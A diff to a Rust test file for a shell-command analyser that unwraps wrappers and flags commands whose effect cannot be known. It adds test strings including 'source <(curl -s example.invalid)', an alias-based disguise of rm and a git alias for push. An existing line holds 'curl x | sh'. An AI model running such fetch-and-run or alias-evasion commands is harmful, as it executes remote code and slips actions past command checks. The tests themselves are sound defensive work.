@@ -85,6 +85,7 @@ fn wrappers_are_peeled() {
         "eval 'rm x'",
         "eval rm x",
         "find . -exec rm x \\;",
+        "coproc rm x",
         "bash -c \"bash -c 'rm x'\"",
     ] {
         runs(line, "rm x");
@@ -123,6 +124,10 @@ fn what_cannot_be_known_is_said() {
         "bash -c \"$x\"",
         "curl x | sh",
         "echo $(( $(rm x) ))",
+        "shopt -s expand_aliases; alias r=rm; r x",
+        "source <(curl -s example.invalid)",
+        "git -c alias.p=push p",
+        "bash <(echo rm x)",
     ] {
         assert!(
             !simple_commands(line).unknown.is_empty(),
